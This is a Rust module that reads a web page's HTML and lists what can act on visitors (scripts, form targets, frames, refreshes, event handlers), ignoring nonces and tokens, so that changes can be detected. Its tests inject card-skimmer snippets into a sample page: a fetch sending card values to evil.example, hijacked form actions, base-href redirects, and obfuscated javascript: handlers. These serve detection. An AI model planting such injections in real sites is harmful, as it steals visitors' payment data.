//! What of a page decides over its visitors: the scripts that it loads and has in it, where its forms go, what it frames, where it
//! leads by itself. Words and pictures are nobody's business here.
//!
//! Bytes in, items out; nothing is fetched. What changes each time (nonces, tokens, counters, cache marks) is left out of an item.

use std::collections::BTreeSet;

use sha2::{Digest as _, Sha256};

use crate::manifest::hex;

/// Items of one page. What is beyond is counted.
pub const ITEMS: usize = 2000;
/// The longest address that is kept of an item; a longer one is hashed.
const ADDRESS: usize = 300;
/// A word of letters and digits that is as long, and has both, is a token.
const TOKEN: usize = 16;
/// So many digits in a row are a counter or a time.
const DIGITS: usize = 5;

/// What a page is made of.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Page {
    /// `script /assets/app.js`, `inline 9f86…`, `form https://pay.example/now`, …
    pub items: BTreeSet<String>,
    /// Scripts of the page's own origin, as paths: what they hold can be fetched.
    pub scripts: BTreeSet<String>,
    /// There were more items.
    pub beyond: u64,
}

/// Reads a page of `origin` (`https://example.org`).
#[must_use]
pub fn read(html: &[u8], origin: &str) -> Page {
    let mut page = Page::default();
    let mut rest = html;
    while let Some(at) = rest.iter().position(|byte| *byte == b'<') {
        rest = rest.get(at + 1..).unwrap_or_default();
        if rest.starts_with(b"!--") {
            rest = after(rest, b"-->");
            continue;
        }
        let Some((tag, behind)) = tag(rest) else { continue };
        rest = behind;
        match &*tag.name {
            "script" => {
                let (content, behind) = content(rest, b"</script");
                match tag.value("src") {
                    Some(src) => {
                        let address = address(&src, origin);
                        if let Some(path) = own(&src, origin) {
                            page.scripts.insert(path);
                        }
                        page.add(format!("script {address}"));
                    }
                    // Data is read by scripts, and is no script.
                    None if tag
                        .value("type")
                        .is_some_and(|kind| kind.contains("json") || kind.contains("template")) => {}
                    None => page.add(format!("inline {}", digest(&steady(content)))),
                }
                rest = behind;
            }
            "form" => page.add(format!(
                "form {}",
                tag.value("action").map_or_else(|| "here".to_owned(), |to| address(&to, origin))
            )),
            "button" | "input" if tag.value("formaction").is_some() => {
                let to = tag.value("formaction").unwrap_or_default();
                page.add(format!("form {}", address(&to, origin)));
            }
            "iframe" | "frame" | "embed" | "object" => {
                let from = tag.value("src").or_else(|| tag.value("data"));
                page.add(format!("frame {}", from.map_or_else(|| "nothing".to_owned(), |from| address(&from, origin))));
                if let Some(inside) = tag.value("srcdoc") {
                    page.add(format!("frame-inside {}", digest(&steady(inside.as_bytes()))));
                }
            }
            "base" => page.add(format!("base {}", tag.value("href").unwrap_or_default())),
            "meta" if tag.value("http-equiv").is_some_and(|it| it.eq_ignore_ascii_case("refresh")) => {
                page.add(format!("refresh {}", steady(tag.value("content").unwrap_or_default().as_bytes())));
            }
            "link" if tag.value("rel").is_some_and(|rel| rel.contains("modulepreload") || rel.contains("import")) => {
                page.add(format!("script {}", address(&tag.value("href").unwrap_or_default(), origin)));
            }
            _ => {}
        }
        for (name, value) in &tag.attributes {
            let leads = matches!(&**name, "href" | "src" | "action" | "formaction") && leads_to_script(value);
            if leads || (name.starts_with("on") && name.len() > 2) {
                page.add(format!("handler {name} {}", digest(&steady(value.as_bytes()))));
            }
        }
    }
    page
}

impl Page {
    fn add(&mut self, item: String) {
        if self.items.len() < ITEMS {
            self.items.insert(item);
        } else {
            self.beyond += u64::from(!self.items.contains(&item));
        }
    }
}

struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

impl Tag {
    fn value(&self, name: &str) -> Option<String> {
        self.attributes.iter().find(|(own, _)| own == name).map(|(_, value)| value.trim().to_owned())
    }
}

/// A tag that begins here, and what is behind it. Ends of elements are none.
fn tag(bytes: &[u8]) -> Option<(Tag, &[u8])> {
    let end = bytes.iter().position(|byte| !byte.is_ascii_alphanumeric() && *byte != b'-').unwrap_or(bytes.len());
    let (name, mut rest) =
        bytes.split_at_checked(end).filter(|(name, _)| name.first().is_some_and(u8::is_ascii_alphabetic))?;
    let mut tag = Tag { name: lower(name), attributes: Vec::new() };
    loop {
        let skip = rest.iter().position(|byte| !byte.is_ascii_whitespace() && *byte != b'/').unwrap_or(rest.len());
        rest = rest.get(skip..).unwrap_or_default();
        match rest.first() {
            None => return Some((tag, rest)),
            Some(b'>') => return Some((tag, rest.get(1..).unwrap_or_default())),
            Some(_) => {}
        }
        let ends = |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'=' | b'>' | b'/');
        // A letter that ends a name begins none: one is taken, so that there is an end to it.
        let end = rest.iter().skip(1).position(ends).map_or(rest.len(), |at| at + 1);
        let (name, behind) = rest.split_at(end);
        let space = behind.iter().position(|byte| !byte.is_ascii_whitespace()).unwrap_or(behind.len());
        let (value, behind) = match behind.get(space..) {
            Some([b'=', value @ ..]) => attribute(value),
            _ => (&[][..], behind),
        };
        rest = behind;
        tag.attributes.push((lower(name), unescape(&String::from_utf8_lossy(value))));
    }
}

/// The value of an attribute, and what is behind it.
fn attribute(bytes: &[u8]) -> (&[u8], &[u8]) {
    let skip = bytes.iter().position(|byte| !byte.is_ascii_whitespace()).unwrap_or(bytes.len());
    let bytes = bytes.get(skip..).unwrap_or_default();
    match bytes.first() {
        Some(quote @ (b'"' | b'\'')) => {
            let inside = bytes.get(1..).unwrap_or_default();
            let end = inside.iter().position(|byte| byte == quote).unwrap_or(inside.len());
            (inside.get(..end).unwrap_or_default(), inside.get(end + 1..).unwrap_or_default())
        }
        _ => {
            let end = bytes.iter().position(|byte| byte.is_ascii_whitespace() || *byte == b'>').unwrap_or(bytes.len());
            bytes.split_at(end)
        }
    }
}

fn lower(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).to_ascii_lowercase()
}

/// What is before `end`, in any case of letters, and what is behind.
fn content<'a>(bytes: &'a [u8], end: &[u8]) -> (&'a [u8], &'a [u8]) {
    let at = bytes.windows(end.len()).position(|window| window.eq_ignore_ascii_case(end)).unwrap_or(bytes.len());
    bytes.split_at(at)
}

fn after<'a>(bytes: &'a [u8], end: &[u8]) -> &'a [u8] {
    let (_, rest) = content(bytes, end);
    rest.get(end.len()..).unwrap_or_default()
}

/// The few references that addresses are written with.
fn unescape(text: &str) -> String {
    text.replace("&amp;", "&")
        .replace("&#38;", "&")
        .replace("&colon;", ":")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
}

/// `javascript:` as browsers read it: letters in any case, with blanks and line breaks anywhere.
fn leads_to_script(value: &str) -> bool {
    let letters = value.bytes().filter(|byte| byte.is_ascii_graphic()).take(11).map(|byte| byte.to_ascii_lowercase());
    letters.eq(*b"javascript:")
}

/// An address without what changes each time: query and fragment; what is below the own origin as a path.
fn address(text: &str, origin: &str) -> String {
    let whole = own(text, origin).unwrap_or_else(|| {
        let end = text.find(['?', '#']).unwrap_or(text.len());
        text.get(..end).unwrap_or_default().to_owned()
    });
    if whole.len() > ADDRESS { format!("sha256:{}", digest(&whole)) } else { whole }
}

/// The path of an address below the origin, without its query.
fn own(text: &str, origin: &str) -> Option<String> {
    let end = text.find(['?', '#']).unwrap_or(text.len());
    let text = text.get(..end)?;
    let path = text.strip_prefix(origin).unwrap_or(text);
    if path.starts_with("//") || path.contains(':') {
        return None;
    }
    Some(if path.starts_with('/') { path.to_owned() } else { format!("/{}", path.trim_start_matches("./")) })
}

/// A script without what changes each time: long words of letters and digits, long numbers, space.
fn steady(script: &[u8]) -> String {
    let text = String::from_utf8_lossy(script);
    let mut out = String::new();
    let mut space = false;
    let mut rest = &*text;
    while let Some(first) = rest.chars().next() {
        let is_word = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '+' | '/' | '=');
        if first.is_whitespace() {
            space = true;
            rest = rest.get(first.len_utf8()..).unwrap_or_default();
            continue;
        }
        if std::mem::take(&mut space) && !out.is_empty() {
            out.push(' ');
        }
        if is_word(first) {
            let end = rest.find(|c| !is_word(c)).unwrap_or(rest.len());
            let (word, behind) = rest.split_at(end);
            out.push_str(&masked(word));
            rest = behind;
        } else {
            out.push(first);
            rest = rest.get(first.len_utf8()..).unwrap_or_default();
        }
    }
    out
}

fn masked(word: &str) -> String {
    let digits = word.bytes().filter(u8::is_ascii_digit).count();
    let letters = word.bytes().filter(u8::is_ascii_alphabetic).count();
    if word.len() >= TOKEN && digits >= 2 && letters > 0 {
        return "*".to_owned();
    }
    if digits < DIGITS {
        return word.to_owned();
    }
    // Runs of digits within a word.
    let mut out = String::new();
    let mut run = String::new();
    for c in word.chars().chain(std::iter::once('\0')) {
        if c.is_ascii_digit() {
            run.push(c);
            continue;
        }
        out.push_str(if run.len() >= DIGITS { "#" } else { &run });
        run.clear();
        if c != '\0' {
            out.push(c);
        }
    }
    out
}

fn digest(text: &str) -> String {
    hex(&Sha256::digest(text))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const ORIGIN: &str = "https://example.org";
    const PAGE: &str = r#"<!doctype html><html><head>
        <!-- <script src="/not/there.js"></script> -->
        <script nonce="r4nd0mN0nc3" src="/assets/app.js?v=81"></script>
        <SCRIPT SRC='https://cdn.example.net/lib.js' integrity="sha384-x"></SCRIPT>
        <script>window.csrf = "8f14e45fceea167a5a36dedd4bea2543"; start(1795388400);</script>
        <script type="application/json">{"changes": "each time"}</script></head>
        <body onload="go()"><form action="/donate" method="post"><input name="token" value="abc"></form>
        <iframe src="https://video.example.net/1"></iframe></body></html>"#;

    fn items(html: &str) -> BTreeSet<String> {
        read(html.as_bytes(), ORIGIN).items
    }

    #[test]
    fn what_a_page_does_is_found() {
        let page = read(PAGE.as_bytes(), ORIGIN);
        for item in [
            "script /assets/app.js",
            "script https://cdn.example.net/lib.js",
            "form /donate",
            "frame https://video.example.net/1",
        ] {
            assert!(page.items.contains(item), "{item}: {:?}", page.items);
        }
        let of = |kind: &str| page.items.iter().filter(|item| item.starts_with(kind)).count();
        assert_eq!((of("inline "), of("handler onload "), page.items.len()), (1, 1, 6), "{:?}", page.items);
        assert_eq!(page.scripts.iter().collect::<Vec<_>>(), ["/assets/app.js"]);
    }

    #[test]
    fn what_changes_each_time_makes_no_difference() {
        let table = [
            ("r4nd0mN0nc3", "0th3rN0nc3"),
            ("?v=81", "?v=82"),
            ("8f14e45fceea167a5a36dedd4bea2543", "c9f0f895fb98ab9159f51fd0297e236d"),
            ("1795388400", "1795388461"),
            ("each time", "and again"),
            ("value=\"abc\"", "value=\"def\""),
            ("<body", "<p>News of today</p><body"),
        ];
        for (from, to) in table {
            let other = PAGE.replace(from, to);
            assert_ne!(other, PAGE, "{from}");
            assert_eq!(items(&other), items(PAGE), "{from} and {to}");
        }
    }

    #[test]
    fn what_a_skimmer_does_makes_one() {
        let table = [
            ("</body>", "<script src=\"https://evil.example/s.js\"></script></body>"),
            ("</body>", "<script>fetch('//evil.example?' + card.value)</script></body>"),
            ("start(", "steal(document.forms[0]); start("),
            ("action=\"/donate\"", "action=\"https://evil.example/donate\""),
            ("<head>", "<head><base href=\"https://evil.example/\">"),
            ("go()", "go(); steal()"),
            ("<input", "<input formaction=//evil.example "),
            ("</body>", "<img src=x onerror=steal()></body>"),
            ("</body>", "<a href=\" java\nscript:steal()\">more</a></body>"),
            ("</body>", "<iframe srcdoc='<script>steal()</script>'></iframe></body>"),
            ("<head>", "<head><meta http-equiv=Refresh content='0; url=https://evil.example'>"),
            ("cdn.example.net", "cdn.evil.example"),
            ("</body>", "<script/src=//evil.example/s.js></script></body>"),
            ("<body", "<svg/onload=steal()><body"),
        ];
        for (from, to) in table {
            let other = PAGE.replacen(from, to, 1);
            assert_ne!(items(&other), items(PAGE), "{to}");
        }
    }

    proptest! {
        #[test]
        fn no_bytes_are_too_much(html in "(<[a-z/! ]{0,4}|[\"'=> ]|script|src|on|--|\u{fe}){0,60}") {
            let page = read(html.as_bytes(), ORIGIN);
            prop_assert!(page.items.len() <= html.len());
        }
    }
}
